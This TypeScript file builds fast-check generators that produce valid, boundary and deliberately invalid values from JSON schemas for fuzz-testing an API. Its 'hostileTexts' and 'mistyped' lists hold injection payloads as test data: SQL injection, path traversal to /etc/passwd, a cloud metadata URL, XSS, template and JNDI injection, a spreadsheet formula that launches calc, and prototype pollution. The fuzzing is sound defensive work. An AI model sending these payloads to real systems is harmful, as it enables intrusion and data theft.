// Values made from a schema: what it takes, what lies at the edge of that, and what nobody should send. Ids and words
// are placeholders until the call is made.
import fc, { type Arbitrary } from 'fast-check'

export type Schema = {
  $ref?: string
  type?: string | string[]
  const?: unknown
  enum?: unknown[]
  format?: string
  pattern?: string
  examples?: unknown[]
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  items?: Schema
  properties?: Record<string, Schema>
  required?: string[]
  additionalProperties?: boolean | Schema
  anyOf?: Schema[]
  oneOf?: Schema[]
}
/** `wrong`: the share of values, in percent, that are not what the schema asks for. */
export type Taste = {
  schemas: Record<string, Schema>
  wrong: number
  hasOptional: boolean | 'little'
}

const idPattern = /^\^([a-z]{3})_\[0-7\]/
/** The prefix of the ids that a field takes; undefined when it takes none. */
export const kindOf = (schema: Schema | undefined): string | undefined =>
  idPattern.exec(schema?.pattern ?? '')?.[1] ??
  schema?.anyOf?.map(kindOf).find((kind) => kind !== undefined)

const placeholder = (whose: 'own' | 'foreign' | 'unknown', kind: string) => `§${whose}:${kind}§`
/** Stands in every text that is made up; what takes its place tells whose text it is. */
export const MARK = '§mark§'

export const hostileTexts = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '\ufeff',
  'e\u0301'.repeat(2000),
  'İ'.repeat(500),
  '👩‍👩‍👧‍👦'.repeat(300),
  "' or 1=1 --",
  '"; drop table messages; --',
  '%',
  '_%\\',
  '\\',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return 1")()}}',
  '{{ "a" | repeat: 99999999 }}',
  '{% for i in (1..99999999) %}x{% endfor %}',
  '{% include "/etc/passwd" %}',
  '{{ '.repeat(2000),
  '{% if a %}'.repeat(500),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes
  '${7*7}${jndi:ldap://x.example/a}',
  'a\r\nset-cookie: x=1',
  '\u001b[31mred\u001b[0m\nlevel=error',
  '=cmd|"/c calc"!A1',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '1e999',
  'null',
  '2024-02-30T25:61:00Z',
  '-271821-04-20T00:00:00.000Z',
  `${'a'.repeat(9000)}!`,
  `${' '.repeat(9000)}x`,
  `${'@a.'.repeat(3000)}`,
  `${'0'.repeat(9000)}x`,
  '('.repeat(9000),
  '['.repeat(9000),
  '"'.repeat(9000),
  '*_`~'.repeat(2000),
  'x'.repeat(70_000),
]

const mistyped: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 1,
  -Number.MAX_SAFE_INTEGER,
  2 ** 31,
  '',
  [],
  {},
  [[[]]],
  [null],
  { $ne: 1 },
  { length: 1e9 },
  { toString: 1, fieldOf: 1 },
  Object.fromEntries([['__proto__', { isAdmin: true }]]),
]
const smuggled = ['__proto__', 'constructor', 'id', 'role', 'workspaceId', 'seq', 'createdAt', '']

/** A word that nobody else has, no longer than this. */
const word = (maxLength: number): Arbitrary<string> =>
  fc.uuid().map((id) => `${MARK}${id.slice(0, Math.max(8, maxLength - 10))}`)

function textOf(schema: Schema): Arbitrary<unknown> {
  const kind = kindOf(schema)
  if (kind !== undefined) return fc.constant(placeholder('own', kind))
  // What no other word of the schema describes.
  if (schema.examples) return fc.constantFrom(...schema.examples)
  if (schema.format === 'email') return fc.uuid().map((id) => `${MARK}${id}@t.example`)
  // None of the other fields are in it, which could be all of it that is hard to guess.
  if (schema.format === 'password')
    return fc.uuid().map((id) => `${MARK}vornehm trottet ein igel heim ${id}`)
  if (schema.format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString())
  if (schema.format === 'uri') return fc.webUrl()
  const { minLength = 0, maxLength = 2000 } = schema
  // Letters of any script are made by nobody here; a plain word is one of them.
  if (schema.pattern?.includes('\\p{')) return word(maxLength)
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern))
  if (maxLength < 20) return fc.string({ minLength: Math.max(1, minLength), maxLength })
  return word(maxLength).map((one) => one.padEnd(minLength + MARK.length, one))
}

/** What stands at the edge of what a schema takes, on either side. */
function edgesOf(schema: Schema): unknown[] {
  const edges: unknown[] = []
  const { minLength, maxLength, minimum, maximum, minItems, maxItems } = schema
  if (maxLength !== undefined) edges.push('x'.repeat(maxLength), 'x'.repeat(maxLength + 1))
  if (minLength) edges.push('x'.repeat(minLength), 'x'.repeat(minLength - 1))
  if (minimum !== undefined) edges.push(minimum, minimum - 1)
  if (maximum !== undefined) edges.push(maximum, maximum + 1)
  for (const size of [minItems, maxItems, maxItems === undefined ? undefined : maxItems + 1])
    if (size !== undefined && size <= 2000) edges.push(Array(size).fill('x'))
  const kind = kindOf(schema)
  if (kind !== undefined)
    edges.push(
      ...Array(6).fill(placeholder('foreign', kind)),
      placeholder('unknown', kind),
      placeholder('own', 'agt'),
    )
  return edges
}

const wrongOf = (schema: Schema): Arbitrary<unknown> => {
  const edges = edgesOf(schema)
  return fc.oneof(
    fc.constantFrom(...mistyped),
    { arbitrary: fc.constantFrom<unknown>(...hostileTexts), weight: 3 },
    { arbitrary: fc.constantFrom(...(edges.length > 0 ? edges : [null])), weight: 3 },
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.array(fc.constantFrom<unknown>(...hostileTexts.slice(0, 30)), { maxLength: 5 }),
  )
}

export function madeFor(schema: Schema, taste: Taste): Arbitrary<unknown> {
  const right = rightOf(schema, taste)
  if (taste.wrong === 0) return right
  return fc.oneof(
    { arbitrary: right, weight: 100 - taste.wrong },
    { arbitrary: wrongOf(schema), weight: taste.wrong },
  )
}

function rightOf(schema: Schema, taste: Taste): Arbitrary<unknown> {
  if (schema.$ref) return madeFor(taste.schemas[schema.$ref.split('/').at(-1)!]!, taste)
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const options = schema.anyOf ?? schema.oneOf
  // Without what is optional the first way of several is taken: `null` is the last.
  if (options && !taste.hasOptional) return madeFor(options[0]!, taste)
  if (options) return fc.oneof(...options.map((option) => madeFor(option, taste)))
  const type = [schema.type].flat()[0]
  if (type === 'string') return textOf(schema)
  if (type === 'integer' || type === 'number') {
    const { minimum = 0, maximum = 1000 } = schema
    return fc.integer({ min: minimum, max: Math.min(maximum, Math.max(minimum, 50)) })
  }
  if (type === 'boolean') return fc.boolean()
  if (type === 'null') return fc.constant(null)
  if (type === 'array') {
    const minLength = schema.minItems ?? (taste.hasOptional ? 0 : 1)
    return fc.array(madeFor(schema.items ?? {}, taste), {
      minLength,
      maxLength: Math.max(minLength, taste.hasOptional ? Math.min(schema.maxItems ?? 3, 3) : 1),
    })
  }
  if (type === 'object') return objectOf(schema, taste)
  return fc.jsonValue({ maxDepth: 2 })
}

/** An address is only checked behind its schema, which takes any text. */
const email = (schema: Schema, taste: Taste): Arbitrary<unknown> =>
  fc.oneof(
    { arbitrary: fc.uuid().map((id) => `${MARK}${id}@t.example`), weight: 100 - taste.wrong },
    { arbitrary: wrongOf(schema), weight: taste.wrong },
  )

/** What is required, and of the rest every fourth: the more there is of it, the less fits together. */
function someOf(
  wanted: readonly [string, Schema][],
  required: readonly string[],
  fieldOf: (one: [string, Schema]) => Arbitrary<unknown>,
): Arbitrary<unknown> {
  const nothing = { arbitrary: fc.constant(undefined), weight: 3 }
  const fields = wanted.map((one) => [
    one[0],
    required.includes(one[0]) ? fieldOf(one) : fc.oneof(nothing, fieldOf(one)),
  ])
  return fc
    .record(Object.fromEntries(fields))
    .map((value) => JSON.parse(JSON.stringify(value)) as unknown)
}

function objectOf(schema: Schema, taste: Taste): Arbitrary<unknown> {
  if (schema.properties === undefined && typeof schema.additionalProperties === 'object') {
    if (!taste.hasOptional) return fc.constant({})
    const keys = taste.wrong > 0 ? ['de', 'a.b', '__proto__', 'constructor', '', 'é'] : ['de']
    return fc.dictionary(fc.constantFrom(...keys), madeFor(schema.additionalProperties, taste))
  }
  const required = schema.required ?? []
  const wanted = Object.entries(schema.properties ?? {}).filter(
    ([name]) => taste.hasOptional || required.includes(name),
  )
  const fieldOf = ([name, one]: [string, Schema]) =>
    name === 'email' ? email(one, taste) : madeFor(one, taste)
  if (taste.hasOptional === 'little') return someOf(wanted, required, fieldOf)
  const fields = Object.fromEntries(wanted.map((one) => [one[0], fieldOf(one)]))
  const record: Arbitrary<Record<string, unknown>> = fc.record(fields, {
    requiredKeys: required.filter((name) => fields[name] !== undefined),
  })
  if (taste.wrong === 0) return record
  const extra = fc.option(fc.tuple(fc.constantFrom(...smuggled), fc.constantFrom(...mistyped)), {
    freq: Math.ceil(300 / taste.wrong),
  })
  const missing = fc.option(fc.constantFrom(...Object.keys(fields), ''), {
    freq: Math.ceil(300 / taste.wrong),
  })
  return fc
    .tuple(record, extra, missing)
    .map(([value, more, less]) =>
      Object.fromEntries([
        ...Object.entries(value).filter(([name]) => name !== less),
        ...(more === null ? [] : [more]),
      ]),
    )
}
